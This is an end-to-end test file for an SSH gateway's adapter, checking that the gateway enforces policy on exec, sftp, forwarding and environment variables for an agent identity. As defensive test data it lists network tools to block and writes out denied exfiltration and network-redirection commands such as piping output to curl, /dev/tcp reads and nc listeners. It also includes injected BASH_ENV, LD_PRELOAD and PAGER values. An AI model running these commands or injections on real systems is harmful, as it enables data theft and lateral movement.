/**
 * The SSH adapter end to end with the real OpenSSH clients (ssh, sftp, scp) through a real
 * gateway in front of a real sshd: authentication by registered key or token, brokered target
 * credentials with host-key pinning, exec with exit codes, stdin and separate stderr, denials in
 * SSH's own terms, forwarding refused unless allowed, sftp, terminal sessions and recordings.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, connect, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { AuditEvent, RequestEvent } from '@gatehouse/core'
import { generateHostKey } from '@gatehouse/adapter-ssh'
import { startGateway, type TestGateway } from '../../fixtures/gateway.js'
import { generateKeyPair, sftpArgs, sshArgs, startSshd, type KeyPair, type Sshd } from '../../fixtures/sshd.js'
import { freePort } from '../../fixtures/net.js'

const REPO = fileURLToPath(new URL('../../..', import.meta.url))
let sshd: Sshd
let gw: TestGateway
let dir: string
let agentKey: KeyPair
let strangerKey: KeyPair
let echo: Server
let echoPort: number

interface Run {
  code: number | null
  stdout: string
  stderr: string
}

/** Runs a client to completion (async: the gateway runs in this process). */
function run(cmd: string, args: string[], opts: { input?: string | Buffer; env?: Record<string, string>; timeoutMs?: number } = {}): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { env: { ...process.env, ...opts.env }, stdio: ['pipe', 'pipe', 'pipe'] })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()))
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
    const timer = setTimeout(() => child.kill('SIGKILL'), opts.timeoutMs ?? 20_000)
    child.on('close', (code) => {
      clearTimeout(timer)
      resolve({ code, stdout, stderr })
    })
    // A client that exits before reading all its input (a refused command) closes the pipe.
    child.stdin.on('error', () => undefined)
    child.stdin.end(opts.input ?? '')
  })
}

const asAgent = (extra: string[] = []) => sshArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra })
const ssh = (command: string, opts: { input?: string; extra?: string[] } = {}) => run('ssh', [...asAgent(opts.extra), command], { input: opts.input })

async function requests(): Promise<RequestEvent[]> {
  return (await gw.audit()).filter((e): e is RequestEvent => e.type === 'request')
}

/**
 * The tree the policy protects from sftp writes, standing in for /etc: a real system directory
 * would be changed for good by a broken guard (a mutation run's mutant let a write into /etc through).
 */
const PROTECTED = mkdtempSync(join(tmpdir(), 'gatehouse-ssh-protected-'))
writeFileSync(join(PROTECTED, 'hostname'), 'protected-host\n')

const policies = (echoPort: number) => [
  {
    id: 'ops',
    principals: { groups: ['agents'] },
    rules: [
      { id: 'no-lateral', effect: 'deny', actions: ['ssh.exec'], match: { 'ssh.programs': ['ssh', 'scp', 'nc', 'ncat', 'socat', 'curl', 'wget', 'telnet'] }, reason: 'no lateral movement from the target' },
      { id: 'no-dev-tcp', effect: 'deny', actions: ['ssh.exec'], match: { 'ssh.network': true }, reason: 'no network redirections' },
      { id: 'no-etc-writes', effect: 'deny', actions: ['ssh.sftp'], when: `has(request.ssh.path) && request.ssh.path.startsWith("${PROTECTED}/") && !(request.ssh.op in ["open", "opendir", "stat", "lstat", "readlink", "realpath"]) || has(request.ssh.mode) && request.ssh.path.startsWith("${PROTECTED}/") && request.ssh.mode.exists(m, m != "read")`, reason: 'nothing under the protected tree changes over sftp' },
      { id: 'commands', effect: 'allow', actions: ['ssh.exec', 'ssh.shell', 'ssh.sftp'] },
      { id: 'echo-forward', effect: 'allow', actions: ['ssh.forward'], when: `request.ssh.kind == "local" && request.ssh.host == "127.0.0.1" && request.ssh.port == ${echoPort}` },
    ],
  },
]

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'gatehouse-ssh-test-'))
  sshd = await startSshd()
  agentKey = await generateKeyPair(dir, 'agent')
  strangerKey = await generateKeyPair(dir, 'stranger')
  echo = createServer((s) => s.pipe(s))
  await new Promise<void>((r) => echo.listen(0, '127.0.0.1', () => r()))
  echoPort = (echo.address() as { port: number }).port
  const hostKey = generateHostKey()
  gw = await startGateway({
    upstream: {},
    identities: [{ id: 'agent-1', groups: ['agents'], sshKeys: [agentKey.publicKey] }],
    connection: {
      name: 'web',
      adapter: 'ssh',
      upstream: { host: sshd.host, port: sshd.port, user: sshd.user, privateKey: sshd.clientPrivateKey, hostKey: sshd.hostKeyFingerprint },
      options: { hostKeys: [hostKey.privateKey] },
    },
    policies: policies(echoPort),
  })
}, 60_000)

afterAll(async () => {
  await gw?.stop()
  await sshd?.stop()
  echo?.close()
  rmSync(dir, { recursive: true, force: true })
  rmSync(PROTECTED, { recursive: true, force: true })
})

/** A gateway in front of `target` for agent-1 with this file's policies; `hostKey` pins another fingerprint. */
function gatewayTo(target: Sshd, more: { hostKey?: string; options?: Record<string, unknown>; limits?: Record<string, unknown> } = {}): Promise<TestGateway> {
  return startGateway({
    upstream: {},
    identities: [{ id: 'agent-1', groups: ['agents'], sshKeys: [agentKey.publicKey] }],
    connection: {
      name: 'web',
      adapter: 'ssh',
      upstream: { host: target.host, port: target.port, user: target.user, privateKey: target.clientPrivateKey, hostKey: more.hostKey ?? target.hostKeyFingerprint },
      options: { hostKeys: [generateHostKey().privateKey], ...more.options },
      ...(more.limits ? { limits: more.limits } : {}),
    },
    policies: policies(echoPort),
  })
}

describe('exec through the gateway', () => {
  it('runs a command with its exit code, stdout and stderr kept apart', async () => {
    const r = await ssh('echo out; echo err >&2; exit 3')
    expect(r).toMatchObject({ code: 3, stdout: 'out\n' })
    expect(r.stderr).toContain('err')
    expect(r.stderr).not.toContain('out')
  })

  it('passes stdin to the command', async () => {
    const r = await ssh('wc -c', { input: 'hello world' })
    expect(r.code).toBe(0)
    expect(r.stdout.trim()).toBe('11')
  })

  it('accepts a gateway token as the password', async () => {
    const askpass = join(dir, 'askpass.sh')
    writeFileSync(askpass, `#!/bin/sh\necho '${gw.tokens['agent-1']}'\n`)
    chmodSync(askpass, 0o700)
    const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', password: true, extra: ['-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no'] }), 'echo via-token'], { env: { SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' } })
    expect(r.stderr).toBe('')
    expect(r.stdout).toBe('via-token\n')
  })

  it('refuses a key that is not registered, and records the failure', async () => {
    const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: strangerKey.privateKeyPath }), 'true'])
    expect(r.code).toBe(255)
    expect(r.stderr).toContain('Permission denied')
    const failures = (await gw.audit()).filter((e) => e.type === 'auth.failure')
    expect(failures.length).toBeGreaterThan(0)
  })

  it('denies a command that runs a forbidden program, in SSH terms, and stays usable', async () => {
    for (const command of ['curl http://10.0.0.5/', 'ls | curl -d @- http://x', 'echo $(ssh other-host id)', "bash -c 'nc -l 4444'", 'sudo env nohup scp a b:', 'cat < /dev/tcp/10.0.0.5/80']) {
      const r = await ssh(command)
      expect(r.code, command).toBe(126)
      expect(r.stderr, command).toMatch(/^gatehouse: denied by ops\/(no-lateral|no-dev-tcp): no (lateral movement from the target|network redirections)/)
      expect(r.stdout).toBe('')
    }
    expect((await ssh('echo still-here')).stdout).toBe('still-here\n')
    const denied = (await requests()).filter((e) => e.action === 'ssh.exec' && e.verdict === 'deny')
    expect(denied.map((e) => e.rule)).toContain('ops/no-lateral')
    const curl = denied.find((e) => e.text === 'ls | curl -d @- http://x')
    expect((curl?.attrs as { ssh: { programs: string[] } }).ssh.programs).toEqual(['ls', 'curl'])
  })

  it('passes an exit signal through as OpenSSH does directly', async () => {
    const direct = await run('ssh', [...sshArgs({ port: sshd.port, user: 'root', identityFile: sshd.clientKeyPath }), 'kill -TERM $$'])
    const through = await ssh('kill -TERM $$')
    expect(through.code).toBe(direct.code)
    expect(through.code).toBe(255)
  })

  it('passes allowed environment variables and refuses others', async () => {
    const r = await run('ssh', [...asAgent(['-o', 'SendEnv=LANG GATEHOUSE_SECRET_PROBE']), 'echo "lang=$LANG probe=${GATEHOUSE_SECRET_PROBE:-unset}"'], { env: { LANG: 'C.UTF-8', GATEHOUSE_SECRET_PROBE: 'leak' } })
    expect(r.stdout).toBe('lang=C.UTF-8 probe=unset\n')
  })

  it('records an outcome with the exit code and byte counts', async () => {
    await ssh('head -c 1000 /dev/zero; exit 4')
    const events = await gw.audit()
    const req = [...events].reverse().find((e): e is RequestEvent => e.type === 'request' && e.text === 'head -c 1000 /dev/zero; exit 4')
    const outcome = events.find((e) => e.type === 'outcome' && (e as { request?: string }).request === req?.request) as { status?: unknown; bytesOut?: number } | undefined
    expect(outcome).toMatchObject({ status: 4, bytesOut: 1000 })
  })
})

describe('large transfers', () => {
  it('moves 200 MB up and down over exec byte for byte (sha256)', async () => {
    const size = 200 * 1024 * 1024
    const data = Buffer.allocUnsafe(size)
    // deterministic, incompressible-looking content
    let x = 0x12345678
    for (let i = 0; i < size; i += 4) {
      x ^= x << 13
      x ^= x >>> 17
      x ^= x << 5
      data.writeInt32LE(x | 0, i)
    }
    const want = createHash('sha256').update(data).digest('hex')
    const remote = `/tmp/gatehouse-big-${process.pid}.bin`
    const up = await run('ssh', [...asAgent(), `cat > ${remote} && sha256sum ${remote}`], { input: data, timeoutMs: 120_000 })
    expect(up.code, up.stderr).toBe(0)
    expect(up.stdout.split(' ')[0]).toBe(want)
    const down = await new Promise<{ hash: string; bytes: number; code: number | null }>((resolve) => {
      const child = spawn('ssh', [...asAgent(), `cat ${remote}; rm -f ${remote}`], { stdio: ['ignore', 'pipe', 'inherit'] })
      const h = createHash('sha256')
      let bytes = 0
      child.stdout.on('data', (d: Buffer) => {
        bytes += d.length
        h.update(d)
      })
      child.on('close', (code) => resolve({ hash: h.digest('hex'), bytes, code }))
    })
    expect(down).toEqual({ hash: want, bytes: size, code: 0 })
  }, 180_000)
})

describe('sftp and scp', () => {
  it('puts and gets a file with sftp, byte for byte', async () => {
    const local = join(dir, 'up.bin')
    const back = join(dir, 'back.bin')
    const data = Buffer.alloc(300_000)
    for (let i = 0; i < data.length; i++) data[i] = (i * 7919) & 0xff
    writeFileSync(local, data)
    const batch = join(dir, 'batch')
    writeFileSync(batch, `put ${local} /tmp/gatehouse-sftp-test.bin\nget /tmp/gatehouse-sftp-test.bin ${back}\nrm /tmp/gatehouse-sftp-test.bin\n`)
    const r = await run('sftp', sftpArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-b', batch] }))
    expect(r.code, r.stderr).toBe(0)
    expect(readFileSync(back).equals(data)).toBe(true)
  })

  it('judges each sftp operation by its path and mode: reads pass, writes under the protected tree are denied, the session goes on', async () => {
    const local = join(dir, 'etc-probe.txt')
    const back = join(dir, 'hostname.txt')
    writeFileSync(local, 'not allowed here\n')
    const batch = join(dir, 'batch-etc')
    writeFileSync(batch, [`get ${PROTECTED}/hostname ${back}`, `-put ${local} ${PROTECTED}/gatehouse-sftp-probe`, `-rm ${PROTECTED}/hostname`, `put ${local} /tmp/gatehouse-sftp-ok.txt`, 'rename /tmp/gatehouse-sftp-ok.txt /tmp/gatehouse-sftp-ok2.txt', 'rm /tmp/gatehouse-sftp-ok2.txt', ''].join('\n'))
    const r = await run('sftp', sftpArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-b', batch] }))
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toContain('Permission denied')
    expect(readFileSync(back, 'utf8')).toBe('protected-host\n')
    expect(existsSync(join(PROTECTED, 'hostname'))).toBe(true)
    expect(existsSync(join(PROTECTED, 'gatehouse-sftp-probe'))).toBe(false)
    const ops = (await requests()).filter((e) => e.action === 'ssh.sftp').map((e) => ({ ...(e.attrs as { ssh: { op: string; path?: string; mode?: string[] } }).ssh, verdict: e.verdict }))
    expect(ops).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ op: 'open', path: `${PROTECTED}/hostname`, mode: ['read'], verdict: 'allow' }),
        expect.objectContaining({ op: 'open', path: `${PROTECTED}/gatehouse-sftp-probe`, verdict: 'deny' }),
        expect.objectContaining({ op: 'remove', path: `${PROTECTED}/hostname`, verdict: 'deny' }),
        expect.objectContaining({ op: 'rename', path: '/tmp/gatehouse-sftp-ok.txt', to: '/tmp/gatehouse-sftp-ok2.txt', verdict: 'allow' }),
        expect.objectContaining({ op: 'remove', path: '/tmp/gatehouse-sftp-ok2.txt', verdict: 'allow' }),
      ]),
    )
  })

  it('copies with scp', async () => {
    const local = join(dir, 'scp.txt')
    writeFileSync(local, 'scp through the gateway\n')
    const args = sftpArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath })
    const target = args[args.length - 1] as string
    const r = await run('scp', [...args.slice(0, -1), local, `${target}:/tmp/gatehouse-scp-test.txt`])
    expect(r.code, r.stderr).toBe(0)
    expect((await ssh('cat /tmp/gatehouse-scp-test.txt; rm /tmp/gatehouse-scp-test.txt')).stdout).toBe('scp through the gateway\n')
  })
})

describe('forwarding', () => {
  /** Starts `ssh -N` with forwarding options; resolves once it has authenticated. */
  async function forwarder(extra: string[]): Promise<{ stderr: () => string; stop: () => void; exited: Promise<number | null> }> {
    const child = spawn('ssh', [...asAgent(['-o', 'LogLevel=INFO', '-N', ...extra])], { stdio: ['ignore', 'pipe', 'pipe'] })
    let stderr = ''
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
    const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)))
    await new Promise((r) => setTimeout(r, 800))
    return { stderr: () => stderr, stop: () => child.kill('SIGTERM'), exited }
  }

  /** Connects to a local port, sends `text`, resolves with what came back before the close. */
  function roundTrip(port: number, text: string): Promise<string> {
    return new Promise((resolve) => {
      const s = connect(port, '127.0.0.1')
      let got = ''
      s.on('data', (d) => {
        got += d.toString()
        if (got.length >= text.length) s.end()
      })
      s.on('connect', () => s.write(text))
      s.on('close', () => resolve(got))
      s.on('error', () => resolve(got))
      setTimeout(() => s.destroy(), 3000)
    })
  }

  it('refuses -L to a destination no rule allows, as administratively prohibited', async () => {
    const local = await freePort()
    const f = await forwarder(['-L', `${local}:127.0.0.1:${sshd.port}`])
    try {
      expect(await roundTrip(local, 'x')).toBe('')
      await new Promise((r) => setTimeout(r, 200))
      expect(f.stderr()).toContain('administratively prohibited')
    } finally {
      f.stop()
    }
    const denied = (await requests()).filter((e) => e.action === 'ssh.forward' && e.verdict === 'deny')
    expect((denied.at(-1)?.attrs as { ssh: Record<string, unknown> }).ssh).toMatchObject({ kind: 'local', host: '127.0.0.1', port: sshd.port })
  })

  it('forwards -L when a rule allows the destination', async () => {
    const local = await freePort()
    const f = await forwarder(['-L', `${local}:127.0.0.1:${echoPort}`])
    try {
      expect(await roundTrip(local, 'ping through the tunnel')).toBe('ping through the tunnel')
    } finally {
      f.stop()
    }
  })

  it('refuses -R', async () => {
    const f = await forwarder(['-o', 'ExitOnForwardFailure=yes', '-R', `0:127.0.0.1:${echoPort}`])
    const code = await Promise.race([f.exited, new Promise<string>((r) => setTimeout(() => r('running'), 5000))])
    f.stop()
    expect(code).toBe(255)
    expect(f.stderr()).toMatch(/remote port forwarding failed/)
  })

  it('refuses -D (dynamic forwarding opens direct-tcpip channels the policy does not allow)', async () => {
    const local = await freePort()
    const f = await forwarder(['-D', String(local)])
    try {
      // SOCKS5: no auth, then CONNECT 127.0.0.1:<sshd port>
      const reply = await new Promise<Buffer>((resolve) => {
        const s = connect(local, '127.0.0.1', () => s.write(Buffer.from([5, 1, 0])))
        let buf = Buffer.alloc(0)
        s.on('data', (d: Buffer) => {
          buf = Buffer.concat([buf, d])
          if (buf.length === 2) {
            const port = Buffer.alloc(2)
            port.writeUInt16BE(sshd.port)
            s.write(Buffer.concat([Buffer.from([5, 1, 0, 1, 127, 0, 0, 1]), port]))
          }
        })
        s.on('close', () => resolve(buf))
        setTimeout(() => s.destroy(), 3000)
      })
      // method reply (5,0), then a failure reply: anything but 0 in the second byte, or a close
      expect(reply.subarray(2)[1] ?? 1).not.toBe(0)
      await new Promise((r) => setTimeout(r, 200))
      expect(f.stderr()).toContain('administratively prohibited')
    } finally {
      f.stop()
    }
  })

  it('refuses X11 forwarding, and audits the request', async () => {
    const r = await run('ssh', [...asAgent(['-X', '-o', 'ForwardX11Trusted=yes']), 'echo "display:${DISPLAY:-none}"'], { env: { DISPLAY: 'localhost:99' } })
    expect(r.stdout).toBe('display:none\n')
    const x11 = (await requests()).filter((e) => e.action === 'ssh.x11')
    expect(x11.at(-1)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
  })

  it('refuses agent forwarding', async () => {
    const agentDir = mkdtempSync(join(tmpdir(), 'gh-agent-'))
    const sock = join(agentDir, 'agent.sock')
    const agent = spawn('ssh-agent', ['-D', '-a', sock], { stdio: 'ignore' })
    try {
      for (let i = 0; i < 50 && !existsSync(sock); i++) await new Promise((r) => setTimeout(r, 20))
      const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-A', '-o', `IdentityAgent=${sock}`] }), 'echo "agent:${SSH_AUTH_SOCK:-none}"'], { env: { SSH_AUTH_SOCK: sock } })
      expect(r.stdout).toBe('agent:none\n')
      const denied = (await requests()).filter((e) => e.action === 'ssh.agent-forward')
      expect(denied.at(-1)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
    } finally {
      agent.kill()
      rmSync(agentDir, { recursive: true, force: true })
    }
  })
})

describe('terminal sessions', () => {
  it('runs an interactive shell under a pty with resize and exit 7, and records it as asciicast v2', async () => {
    const name = `gh${process.pid}`
    const sshCmd = ['ssh', ...asAgent(['-tt'])].map((a) => `'${a}'`).join(' ')
    const tmux = (...a: string[]) => run('tmux', ['-L', name, ...a])
    await tmux('new-session', '-d', '-x', '80', '-y', '24', `${sshCmd}; echo "exit:$?" > ${join(dir, 'tmux-exit')}; sleep 30`)
    try {
      const screen = async (want: RegExp) => {
        for (let i = 0; i < 100; i++) {
          const r = await tmux('capture-pane', '-p')
          if (want.test(r.stdout)) return r.stdout
          await new Promise((res) => setTimeout(res, 100))
        }
        return (await tmux('capture-pane', '-p')).stdout
      }
      await screen(/[#$] $/m)
      await tmux('send-keys', 'stty size', 'Enter')
      expect(await screen(/^24 80$/m)).toMatch(/^24 80$/m)
      await tmux('resize-window', '-x', '100', '-y', '40')
      await new Promise((res) => setTimeout(res, 300))
      await tmux('send-keys', 'clear; stty size', 'Enter')
      expect(await screen(/^40 100$/m)).toMatch(/^40 100$/m)
      await tmux('send-keys', 'exit 7', 'Enter')
      for (let i = 0; i < 100 && !existsSync(join(dir, 'tmux-exit')); i++) await new Promise((res) => setTimeout(res, 100))
      expect(readFileSync(join(dir, 'tmux-exit'), 'utf8').trim()).toBe('exit:7')
    } finally {
      await tmux('kill-server')
    }
    const shell = (await requests()).filter((e) => e.action === 'ssh.shell').at(-1)
    expect(shell).toMatchObject({ verdict: 'allow' })
    expect((shell?.attrs as { ssh: { pty: { term: string } } }).ssh.pty.term).toBeTruthy()
    await new Promise((r) => setTimeout(r, 200))
    // the outcome names the recording once it exists
    const outcome = (await gw.audit()).find((e) => e.type === 'outcome' && e.request === shell?.request) as { recording?: string } | undefined
    const recording = { recording: outcome?.recording as string }
    const lines = readFileSync(recording.recording, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as unknown)
    expect(lines[0]).toMatchObject({ version: 2, width: 80, height: 24 })
    const events = lines.slice(1) as [number, string, string][]
    expect(events.some(([, kind, data]) => kind === 'o' && data.includes('24 80'))).toBe(true)
    expect(events.some(([, kind, data]) => kind === 'r' && data === '100x40')).toBe(true)
    expect(events.every(([t], i) => i === 0 || t >= (events[i - 1] as [number])[0])).toBe(true)
    // asciinema itself plays it back (under `script`, since it wants a terminal)
    const replay = await run('script', ['-qec', `asciinema play -i 0.2 ${recording.recording}`, '/dev/null'])
    expect(replay.code, replay.stderr).toBe(0)
    expect(replay.stdout).toContain('24 80')
    // and so does `gatehouse replay SESSION`
    const ours = await run(process.execPath, [join(REPO, 'core/dist/cli.js'), 'replay', shell?.session as string, '--data-dir', gw.dir, '--speed', '50'])
    expect(ours.code, ours.stderr).toBe(0)
    expect(ours.stdout).toContain('24 80')
    expect(ours.stdout).toContain('40 100')
  })
})

describe('a gateway whose policy allows only exec, with a credential the target refuses', () => {
  let strict: TestGateway
  let wrong: TestGateway
  beforeAll(async () => {
    const onlyExec = [{ id: 'exec-only', rules: [{ id: 'exec', effect: 'allow', actions: ['ssh.exec'] }] }]
    const identities = [{ id: 'agent-1', groups: ['agents'], sshKeys: [agentKey.publicKey] }]
    const connection = (privateKey: string) => ({
      name: 'web',
      adapter: 'ssh',
      upstream: { host: sshd.host, port: sshd.port, user: sshd.user, privateKey, hostKey: sshd.hostKeyFingerprint },
      options: { hostKeys: [generateHostKey().privateKey] },
    })
    strict = await startGateway({ upstream: {}, identities, connection: connection(sshd.clientPrivateKey), policies: onlyExec })
    wrong = await startGateway({ upstream: {}, identities, connection: connection(strangerKey.privateKey), policies: onlyExec })
  })
  afterAll(async () => {
    await strict?.stop()
    await wrong?.stop()
  })

  it('refuses a shell with the reason on stderr and exit status 126', async () => {
    const r = await run('ssh', [...sshArgs({ port: strict.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-tt'] })], { input: 'echo hi\nexit\n' })
    expect(r.code).toBe(126)
    expect(r.stdout + r.stderr).toContain('gatehouse: denied by default-deny: no rule allows this request')
  })

  it('refuses sftp', async () => {
    const batch = join(dir, 'batch-ls')
    writeFileSync(batch, 'ls /\n')
    const r = await run('sftp', sftpArgs({ port: strict.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-b', batch] }))
    expect(r.code).not.toBe(0)
    const events = (await strict.audit()).filter((e): e is RequestEvent => e.type === 'request' && e.action === 'ssh.sftp')
    expect(events.at(-1)).toMatchObject({ verdict: 'deny', rule: 'default-deny' })
  })

  it('reports a target that refuses the gateway credential, with exit status 255 and no secret', async () => {
    const r = await run('ssh', [...sshArgs({ port: wrong.port, user: 'agent-1', identityFile: agentKey.privateKeyPath }), 'echo never'])
    expect(r.code).toBe(255)
    expect(r.stderr).toContain("gatehouse: the target refused the gateway's credential for root")
    const audit = JSON.stringify(await wrong.audit())
    expect(audit).toContain('GH_ERR_UPSTREAM_UNAVAILABLE')
    expect(audit).not.toContain(strangerKey.privateKey.split('\n')[1] as string)
  })
})

describe('connections that never log in', () => {
  let tight: TestGateway
  beforeAll(async () => {
    tight = await gatewayTo(sshd, { options: { env: ['LANG', 'BASH_ENV', 'LD_*'] }, limits: { unauthenticated: { total: 3, loginTimeoutMs: 1000 } } })
  })
  afterAll(() => tight?.stop())

  /** Opens a socket that sends `bytes` and nothing more; resolves with how long until the gateway closed it. */
  const idle = (bytes: string) =>
    new Promise<number>((resolve) => {
      const started = Date.now()
      const s = connect(tight.port, '127.0.0.1', () => s.write(bytes))
      s.on('data', () => undefined)
      s.on('error', () => undefined)
      s.on('close', () => resolve(Date.now() - started))
      setTimeout(() => s.destroy(), 10_000)
    })

  it('closes a connection that never sends its greeting, or stops after it, once limits.unauthenticated.loginTimeoutMs passes', async () => {
    const [silent, greeted] = await Promise.all([idle(''), idle('SSH-2.0-Test\r\n')])
    expect(silent).toBeGreaterThanOrEqual(900)
    expect(silent).toBeLessThan(5000)
    expect(greeted).toBeLessThan(5000)
  })

  it('never passes variables that make the target shell run something, even when options.env lists them and the target accepts them', async () => {
    // a target whose AcceptEnv takes them all: only the gateway stands between the client and the shell
    const open = await startSshd({ config: { AcceptEnv: 'LANG BASH_ENV LD_PRELOAD PAGER SSH_ASKPASS' } })
    const gw = await gatewayTo(open, { options: { env: ['LANG', 'BASH_ENV', 'LD_*', 'PAGER', 'SSH_ASKPASS'] } })
    try {
      const env = { LANG: 'C.UTF-8', BASH_ENV: '/tmp/evil', LD_PRELOAD: '/tmp/evil.so', PAGER: 'curl x', SSH_ASKPASS: '/tmp/evil' }
      const line = 'echo "${LANG:-unset} ${BASH_ENV:-unset} ${LD_PRELOAD:-unset} ${PAGER:-unset} ${SSH_ASKPASS:-unset}"'
      const r = await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: agentKey.privateKeyPath, extra: ['-o', 'SendEnv=LANG BASH_ENV LD_PRELOAD PAGER SSH_ASKPASS'] }), line], { env })
      expect(r.stdout).toBe('C.UTF-8 unset unset unset unset\n')
      // the same target straight: it would have taken them (the check above is the gateway's)
      const direct = await run('ssh', [...sshArgs({ port: open.port, user: open.user, identityFile: open.clientKeyPath, extra: ['-o', 'SendEnv=LANG BASH_ENV PAGER'] }), 'echo "${BASH_ENV:-unset} ${PAGER:-unset}"'], { env })
      expect(direct.stdout).toBe('/tmp/evil curl x\n')
    } finally {
      await gw.stop()
      await open.stop()
    }
  })

  it('drops connections beyond limits.unauthenticated.total at once, and still serves a real client afterwards', async () => {
    const held = [idle(''), idle(''), idle('')]
    await new Promise((r) => setTimeout(r, 100))
    expect(await idle('')).toBeLessThan(500)
    await Promise.all(held)
    const r = await run('ssh', [...sshArgs({ port: tight.port, user: 'agent-1', identityFile: agentKey.privateKeyPath }), 'echo served'])
    expect(r.stdout).toBe('served\n')
  })
})

describe('the target', () => {
  it('refuses a target whose host key does not match the pinned fingerprint, without sending the credential', async () => {
    const logins = () => (sshd.log().match(/Accepted publickey/g) ?? []).length
    const before = logins()
    const other = await gatewayTo(sshd, { hostKey: `SHA256:${createHash('sha256').update('not the key').digest('base64').replace(/=+$/, '')}` })
    try {
      const r = await run('ssh', [...sshArgs({ port: other.port, user: 'agent-1', identityFile: agentKey.privateKeyPath }), 'echo should-not-run'])
      expect(r.code).toBe(255)
      expect(r.stdout).toBe('')
      expect(r.stderr).toMatch(/gatehouse: target host key SHA256:\S+ does not match the configured SHA256:/)
    } finally {
      await other.stop()
    }
    // the gateway gave up at the host key: the target saw no login
    expect(logins()).toBe(before)
  })

  it('stays healthy after clients disconnect at every stage of the handshake', async () => {
    const stages: Buffer[] = [Buffer.alloc(0), Buffer.from('SSH-2.0-Test\r\n'), Buffer.from('SSH-2.0-Test\r\n\x00\x00\x00\x2c\x06\x14garbage-kexinit-garbage'), Buffer.from('NOT SSH AT ALL\r\n\r\n')]
    for (const bytes of stages) {
      await new Promise<void>((resolve) => {
        const s = connect(gw.port, '127.0.0.1', () => {
          s.write(bytes)
          setTimeout(() => s.destroy(), 100)
        })
        s.on('close', () => resolve())
        s.on('error', () => resolve())
      })
    }
    // a client that authenticates and vanishes mid-command
    const child = spawn('ssh', [...asAgent(), 'sleep 30'], { stdio: 'ignore' })
    await new Promise((r) => setTimeout(r, 1200))
    child.kill('SIGKILL')
    await new Promise((r) => setTimeout(r, 300))
    expect((await ssh('echo healthy')).stdout).toBe('healthy\n')
  })

  it('records an outcome for a command whose client stops reading and disconnects', async () => {
    const child = spawn('ssh', [...asAgent(), 'head -c 500M /dev/zero'], { stdio: ['ignore', 'pipe', 'ignore'] })
    child.stdout.pause()
    await new Promise((r) => setTimeout(r, 1500))
    child.kill('SIGKILL')
    await new Promise((r) => setTimeout(r, 800))
    const events = await gw.audit()
    const req = [...events].reverse().find((e): e is RequestEvent => e.type === 'request' && e.text === 'head -c 500M /dev/zero')
    expect(req).toBeDefined()
    expect(events.filter((e) => e.type === 'outcome' && (e as { request?: string }).request === req?.request)).toHaveLength(1)
  })

  it('gives every failed login its own audit event id', async () => {
    const before = (await gw.audit()).filter((e) => e.type === 'auth.failure').length
    await run('ssh', [...sshArgs({ port: gw.port, user: 'agent-1', identityFile: strangerKey.privateKeyPath }), 'true'])
    const failures = (await gw.audit()).filter((e) => e.type === 'auth.failure')
    expect(failures.length).toBeGreaterThan(before)
    expect(new Set(failures.map((e) => e.id)).size).toBe(failures.length)
  })

  it('lists its recordings under the data directory', () => {
    expect(readdirSync(join(gw.dir, 'recordings')).length).toBeGreaterThan(0)
  })
})
